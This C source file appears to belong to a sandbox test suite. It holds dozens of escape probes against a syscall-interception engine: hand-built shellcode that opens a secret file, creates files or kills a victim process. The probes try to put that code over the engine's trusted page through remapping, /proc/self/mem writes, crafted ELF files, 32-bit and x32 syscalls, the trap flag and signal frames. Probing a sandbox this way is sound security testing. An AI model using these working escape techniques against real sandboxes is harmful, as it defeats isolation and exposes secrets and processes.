/* Attacks on the engine's own pages in a process, by somebody who has read its code: the page from which the engine's calls are made,
 * the area through which it hands over paths, the page of virtual time. What makes the engine execute calls is a map of a file. */
#include "escape.h"
#include <sched.h>
#include <setjmp.h>
#include <stddef.h>
#include <sys/auxv.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <sys/uio.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <ucontext.h>

#define TEXT ((char *)0x7ffffa000000)
#define DATA ((char *)0x7ffffa010000)
#define SCRATCH (DATA + 4096)
#define PRIVATE ((char *)0x7ffffa100000)
#define PAGE 4096

static char path[600]; /* of the secret, or of a witness */

/* payload fills a page with no-ops that lead to a call of our choice, wherever one comes in. */
static void payload(char *page, long nr, long a, long b, long c, long d) {
	unsigned char code[64], *p = code;
	struct { unsigned char op[2]; long v; } set[] = {{{0x48, 0xb8}, nr}, {{0x48, 0xbf}, a}, {{0x48, 0xbe}, b}, {{0x48, 0xba}, c}, {{0x49, 0xba}, d}};
	for (int i = 0; i < 5; i++) { memcpy(p, set[i].op, 2); memcpy(p + 2, &set[i].v, 8); p += 10; }
	*p++ = 0x0f, *p++ = 0x05, *p++ = 0xcc;
	memset(page, 0x90, PAGE);
	memcpy(page + PAGE - sizeof code, code, p - code);
}

static char *prepared(long nr, long a, long b, long c, long d) {
	char *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	payload(page, nr, a, b, c, d);
	return page;
}

/* trigger makes the engine open a file for us and map it, and prints what was mapped. */
static int trigger(void) {
	int fd = open("own", O_RDWR | O_CREAT, 0600);
	if (ftruncate(fd, PAGE) || write(fd, "own", 3) != 3) return 0;
	char *m = mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd, 0);
	if (m == MAP_FAILED) return 0;
	show("mapped", m, 64);
	return memcmp(m, "own", 3) != 0;
}

static char *reads(void) { snprintf(path, sizeof path, "%s", SECRET); return prepared(SYS_openat, AT_FDCWD, (long)path, O_RDONLY, 0); }
static char *creates(const char *name) { snprintf(path, sizeof path, "%s", witness(name)); return prepared(SYS_openat, AT_FDCWD, (long)path, O_RDWR | O_CREAT, 0644); }

static int over(char *page) {
	char *m = mmap(TEXT, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (m != TEXT) return 0;
	memcpy(m, page, PAGE);
	return trigger();
}
static int map_over_text(void) { return over(reads()); }
static int map_over_text_writes(void) { return over(creates("by-gate")); }
static int map_over_text_kills(void) { return over(prepared(SYS_kill, VICTIM, SIGKILL, 0, 0)); }
static int unmap_text(void) { char *page = reads(); munmap(TEXT, PAGE); return over(page); }
static int unmap_hint(void) {
	char *page = reads();
	munmap(TEXT, PAGE);
	char *m = mmap(TEXT, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (m != TEXT) return trigger();
	memcpy(m, page, PAGE);
	return trigger();
}
static int unmap_all(void) { /* all of the address space, this code too, unless that is refused */
	munmap(NULL, 0x7ffffffff000);
	return trigger();
}
static int unmap_straddling(void) { char *page = reads(); munmap((char *)0x7ffff8000000, 0x4000000); return over(page); }
static int unmap_wrapping(void) { munmap(TEXT, -(long)TEXT); munmap(TEXT - PAGE, ~0UL - 2 * PAGE); return over(reads()); }
static int write_text(void) {
	char *page = reads();
	if (mprotect(TEXT, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC)) return trigger();
	memcpy(TEXT, page, PAGE);
	return trigger();
}
static int protect_straddling(void) { mprotect((char *)0x7ffff8000000, 0x6ffffff0000 & ~0xfff, PROT_NONE); mprotect(TEXT - 16 * PAGE, 64 * PAGE, PROT_NONE); return trigger(); }
static int move_over_text(void) {
	char *page = reads();
	mremap(page, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, TEXT);
	return trigger();
}
static int move_text_away(void) {
	char *to = mmap(NULL, PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *page = reads();
	mremap(TEXT, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, to);
	mremap(TEXT, PAGE, 0, 0);
	mremap(TEXT, PAGE, 4 * PAGE, MREMAP_MAYMOVE);
	return over(page);
}
static int file_over_text(void) { /* the map is one of a file: the engine makes it itself */
	int fd = open("code", O_RDWR | O_CREAT, 0700);
	char *page = reads();
	if (write(fd, page, PAGE) != PAGE) return 0;
	mmap(TEXT, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 0);
	mmap(TEXT, PAGE, PROT_READ | PROT_EXEC, MAP_SHARED | MAP_FIXED, fd, 0);
	mmap(TEXT, PAGE, PROT_READ | PROT_EXEC, MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	mmap(TEXT, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, open("/dev/zero", O_RDWR), 0);
	return trigger();
}
static int segment_over_text(void) {
	int id = shmget(IPC_PRIVATE, PAGE, IPC_CREAT | 0700);
	char *m = shmat(id, NULL, 0), *page = reads();
	memcpy(m, page, PAGE);
	shmat(id, TEXT, SHM_REMAP | SHM_EXEC);
	return trigger();
}
static int grow_stack(void) { /* a map that grows down is put above the text */
	char *m = mmap(TEXT + 8 * PAGE, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN | MAP_FIXED, -1, 0);
	for (char *p = TEXT + 8 * PAGE; m == TEXT + 8 * PAGE && p >= TEXT; p -= PAGE / 2) *(volatile char *)p = 0x90;
	return trigger();
}
static int grow_break(void) { syscall(SYS_brk, TEXT + PAGE); return trigger(); }
static int write_by_memory_file(void) {
	char *page = reads();
	int fd = open("/proc/self/mem", O_RDWR);
	if (pwrite(fd, page, PAGE, (off_t)TEXT) > 0) printf("wrote into the text\n");
	return trigger();
}
static int write_by_vm_writev(void) {
	struct iovec from = {reads(), PAGE}, to = {TEXT, PAGE};
	syscall(SYS_process_vm_writev, getpid(), &from, 1, &to, 1, 0);
	return trigger();
}
static int fake_scratch(int prot) {
	char *m = mmap(SCRATCH, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (m != SCRATCH) return trigger();
	strcpy(m, SECRET);
	mprotect(m, PAGE, prot);
	return trigger();
}
static int fake_path(void) { return fake_scratch(PROT_READ | PROT_WRITE); }
static int fake_path_readonly(void) { return fake_scratch(PROT_READ); }
static int protect_scratch(void) { strcpy(SCRATCH, SECRET); mprotect(SCRATCH, PAGE, PROT_READ); return trigger(); }
static int key_scratch(void) { strcpy(SCRATCH, SECRET); syscall(SYS_pkey_mprotect, SCRATCH, PAGE, PROT_READ, syscall(SYS_pkey_alloc, 0, 1)); return trigger(); }
static int remains_in_scratch(void) { /* the machine's own ids, which differ from run to run */
	trigger();
	for (int i = 0; i < 64 << 10; i++) if (SCRATCH[i]) { show("scratch", SCRATCH + i, 60); return 1; }
	return 0;
}
static int remains_of_vfork(void) {
	pid_t child = vfork();
	if (child == 0) { execl("/escape", "escape", "--nothing", NULL); _exit(1); }
	waitpid(child, NULL, 0);
	char line[300];
	unsigned long from, to;
	char prot[8];
	FILE *f = fopen("/proc/self/maps", "r");
	while (f && fgets(line, sizeof line, f)) {
		if (sscanf(line, "%lx-%lx %7s", &from, &to, prot) != 3 || prot[0] != 'r' || prot[1] != 'w' || to - from > 1 << 24) continue;
		for (char *p = (char *)from; p + 16 < (char *)to; p++)
			if (p[0] == '/' && p[1] == 'p' && p[2] == 'r' && !memcmp(p, "/proc/", 6) && p[6] > '0' && p[6] <= '9') { show("left behind", p, 24); return 1; }
	}
	return 0;
}
static int forget_for_children(int advice) {
	char *page = reads();
	madvise(TEXT, PAGE, advice), madvise(DATA, 17 * PAGE, advice), madvise(PRIVATE, 2 * PAGE, advice);
	pid_t child = fork();
	if (child == 0) {
		char *m = mmap(TEXT, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (m == TEXT) memcpy(m, page, PAGE);
		_exit(trigger() ? 77 : 0);
	}
	int status;
	waitpid(child, &status, 0);
	return WIFEXITED(status) && WEXITSTATUS(status) == 77;
}
static int not_forked(void) { return forget_for_children(MADV_DONTFORK); }
static int wiped_on_fork(void) { return forget_for_children(MADV_WIPEONFORK); }
static int punched(void) { madvise(DATA, 17 * PAGE, MADV_REMOVE); madvise(TEXT, PAGE, MADV_DONTNEED); madvise(TEXT, PAGE, 101), madvise(TEXT, PAGE, MADV_HWPOISON); return trigger(); }
static int guarded(void) { madvise(TEXT, PAGE, 102); madvise(SCRATCH, PAGE, 102); return trigger(); }
static int sealed(void) { syscall(462, TEXT, PAGE, 0); return trigger(); }
static int fault_handler(void) { return syscall(SYS_userfaultfd, 0) >= 0 || trigger(); }
static int by_vfork_child(void) {
	char *page = reads();
	pid_t child = vfork();
	if (child == 0) { munmap(TEXT, PAGE); mmap(TEXT, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0); _exit(0); }
	waitpid(child, NULL, 0);
	return over(page);
}
static int own_filter(void) { /* a filter of our own would answer the engine's calls, too */
	struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0)};
	struct sock_fprog program = {1, code};
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) == 0 || syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) == 0 ||
		prctl(59, 1, 0, 0x7fffffffffff, &(char){0}) == 0 || trigger(); /* PR_SET_SYSCALL_USER_DISPATCH */
}

/* Code at the very address by which the filter knows the engine's calls, where a processor has so many addresses. */
static int code_at(char *page) {
	char *m = mmap(page, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (m != page) return 0;
	int fd = -1;
	for (int i = 0; i < PAGE; i += 2) memcpy(m + i, "\x0f\x05", 2);
	printf("mapped the last page\n");
	return 0;
}
static int last_page(void) { return code_at((char *)0x7ffffffff000) | code_at((char *)0xfffffffffffff000) | code_at((char *)0x8000000000000000); }

/* A program whose own segments lie where the engine's pages will be. */
static int linked_over_text(void) {
	struct { unsigned char ident[16]; uint16_t type, machine; uint32_t version; uint64_t entry, phoff, shoff; uint32_t flags; uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; } h =
		{{0x7f, 'E', 'L', 'F', 2, 1, 1}, 2, 62, 1, (uint64_t)TEXT + 0x800, 64, 0, 0, 64, 56, 1, 64, 0, 0};
	struct { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; } p = {1, 7, 0, (uint64_t)TEXT, (uint64_t)TEXT, PAGE, PAGE, PAGE};
	char file[PAGE];
	payload(file, SYS_openat, AT_FDCWD, (long)TEXT + 1024, O_RDWR | O_CREAT, 0644);
	memcpy(file, &h, sizeof h), memcpy(file + sizeof h, &p, sizeof p);
	snprintf(file + 1024, 600, "%s", witness("by-linked"));
	int fd = open("linked", O_RDWR | O_CREAT, 0700);
	if (write(fd, file, PAGE) != PAGE) return 0;
	close(fd);
	pid_t child = fork();
	if (child == 0) { execl("linked", "linked", NULL); _exit(0); }
	waitpid(child, NULL, 0);
	return 0;
}

/* A program whose loader is none of the machine's: the engine maps it itself. Its segment is larger in the file than in memory, and so lies over the text. */
static int placed(uint64_t at, uint64_t filesz, uint64_t memsz) {
	struct { unsigned char ident[16]; uint16_t type, machine; uint32_t version; uint64_t entry, phoff, shoff; uint32_t flags; uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; } h =
		{{0x7f, 'E', 'L', 'F', 2, 1, 1}, 2, 62, 1, at, 64, 0, 0, 64, 56, 2, 64, 0, 0};
	struct { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; } p[] = {{3, 4, 512, 512, 512, 8, 8, 1}, {1, 7, PAGE, at, at, filesz, memsz, PAGE}};
	static char file[64 * PAGE];
	memcpy(file + 2 * PAGE, TEXT, PAGE), memcpy(file + 2 * PAGE, "ours", 4); /* with the call that the engine makes its own from */
	memcpy(file, &h, sizeof h), memcpy(file + sizeof h, p, sizeof p), memcpy(file + 512, "/escape", 8);
	int fd = open("placed", O_RDWR | O_CREAT | O_TRUNC, 0700), status;
	if (write(fd, file, sizeof file) != sizeof file) return 0;
	close(fd);
	pid_t child = fork();
	if (child == 0) { execl("placed", "placed", "--loaded", NULL); _exit(0); }
	waitpid(child, &status, 0);
	return WIFEXITED(status) && WEXITSTATUS(status) == 77;
}
static int placed_over_text(void) { return placed((uint64_t)TEXT - PAGE, 40 * PAGE, PAGE); }
static int placed_around_text(void) { return placed((uint64_t)TEXT - PAGE, 40 * PAGE, -(uint64_t)TEXT + PAGE) | placed((uint64_t)TEXT - PAGE, 40 * PAGE, 40 * PAGE); }
/* loaded is what runs as the loader: it must find the engine's own vDSO in its place. */
__attribute__((constructor)) static void loaded(int argc, char **argv) {
	if (argc > 1 && !strcmp(argv[1], "--loaded")) _exit(memcmp(TEXT, "\177ELF", 4) || remains_in_scratch() ? 77 : 0);
}

/* Calls by the conventions of other architectures, from code that runs with 32-bit segments. */
static sigjmp_buf back;
static void broke(int signo) { siglongjmp(back, 1); }
static int old_call(void) {
	char *low = mmap((void *)0x10000000, 2 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	strcpy(low + PAGE, witness("by-old-call"));
	long r = -1;
	signal(SIGSEGV, broke), signal(SIGILL, broke);
	if (sigsetjmp(back, 1)) return 0;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(5L), "b"((long)low + PAGE), "c"(0102L), "d"(0644L) : "memory"); /* open of 32-bit x86 */
	return r >= 0;
}
static int other_numbers(void) { return syscall(0x40000000 | SYS_open, witness("by-x32"), O_RDWR | O_CREAT, 0644) >= 0 || syscall(0x40000000 | SYS_kill, VICTIM, SIGKILL) == 0; }
static int short_code(void) { /* the alias of the text's address in 32 bits */
	char *alias = mmap((void *)0xfa000000, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (alias != (void *)0xfa000000) return 0;
	strcpy(alias + 2048, witness("by-short"));
	/* mov eax, 5; mov ebx, path; mov ecx, flags; mov edx, mode; int 0x80; hlt */
	unsigned char code[] = {0xb8, 5, 0, 0, 0, 0xbb, 0, 8, 0, 0xfa, 0xb9, 0x42, 0, 0, 0, 0xba, 0xa4, 1, 0, 0, 0xcd, 0x80, 0xf4};
	memset(alias, 0x90, 2048);
	memcpy(alias + 1024, code, sizeof code);
	signal(SIGSEGV, broke), signal(SIGILL, broke);
	if (sigsetjmp(back, 1)) return 0;
	struct { uint32_t ip; uint16_t cs; } __attribute__((packed)) far = {0xfa000000, 0x23};
	__asm__ volatile("ljmp *%0" : : "m"(far) : "memory");
	return 0;
}
static int trapped(void) { /* the processor traps after each instruction while the engine makes its call */
	signal(SIGTRAP, SIG_IGN);
	__asm__ volatile("pushfq; orq $0x100, (%%rsp); popfq" : : : "memory", "cc");
	int r = trigger();
	__asm__ volatile("pushfq; andq $~0x100, (%%rsp); popfq" : : : "memory", "cc");
	return r;
}
static int frames_over_text(void) { /* the kernel is made to write the frame of a signal */
	stack_t s = {PRIVATE, 0, 8192};
	sigaltstack(&s, NULL);
	struct sigaction a = {.sa_handler = broke, .sa_flags = SA_ONSTACK};
	sigaction(SIGUSR1, &a, NULL);
	if (!sigsetjmp(back, 1)) raise(SIGUSR1);
	stack_t t = {TEXT, 0, 4096};
	sigaltstack(&t, NULL);
	if (!sigsetjmp(back, 1)) raise(SIGUSR1);
	return trigger();
}
static int kernel_writes(void) { /* calls that write for us */
	int fd = open("page", O_RDWR | O_CREAT, 0600);
	char *page = reads();
	if (write(fd, page, PAGE) != PAGE) return 0;
	pread(fd, TEXT, PAGE, 0);
	readlink("/proc/self/exe", TEXT, 100);
	getcwd(TEXT, 100);
	syscall(SYS_set_tid_address, TEXT), syscall(SYS_set_robust_list, TEXT, 24);
	return trigger();
}
static int other_bases(void) {
	long before = 0, after = 0;
	syscall(SYS_arch_prctl, 0x2003, 0x200000000000), syscall(SYS_arch_prctl, 0x2001, TEXT), syscall(SYS_arch_prctl, 0x2002, TEXT); /* ARCH_MAP_VDSO_64, _X32, _32 */
	syscall(SYS_arch_prctl, 0x5001, 1), syscall(SYS_arch_prctl, 0x1012, 0), syscall(SYS_arch_prctl, 0x1023, 18); /* shadow stack, cpuid, AMX */
	return trigger();
}

PROBES({"map over text", map_over_text}, {"map over text to write", map_over_text_writes}, {"map over text to kill", map_over_text_kills},
	{"unmap text", unmap_text}, {"unmap text, map by a hint", unmap_hint}, {"unmap everything", unmap_all}, {"unmap around text", unmap_straddling},
	{"unmap with overflow", unmap_wrapping}, {"write text", write_text}, {"protect around text", protect_straddling}, {"move over text", move_over_text},
	{"move text away", move_text_away}, {"map file over text", file_over_text}, {"attach segment over text", segment_over_text},
	{"grow stack over text", grow_stack}, {"grow heap over text", grow_break}, {"write text by /proc/self/mem", write_by_memory_file},
	{"write text by process_vm_writev", write_by_vm_writev}, {"fake path", fake_path}, {"fake path that cannot be written", fake_path_readonly},
	{"protect scratch", protect_scratch}, {"protection key on scratch", key_scratch}, {"ids left in scratch", remains_in_scratch},
	{"ids left by vfork", remains_of_vfork}, {"pages not forked", not_forked}, {"pages wiped on fork", wiped_on_fork}, {"pages punched", punched},
	{"pages guarded", guarded}, {"pages sealed", sealed}, {"userfaultfd", fault_handler}, {"by a vfork child", by_vfork_child}, {"own filter", own_filter},
	{"last page", last_page}, {"program linked over text", linked_over_text}, {"program placed over text", placed_over_text}, {"program placed around text", placed_around_text}, {"int 0x80", old_call}, {"x32 numbers", other_numbers},
	{"32-bit code", short_code}, {"trap flag", trapped}, {"signal frames", frames_over_text}, {"results over text", kernel_writes}, {"arch_prctl", other_bases})
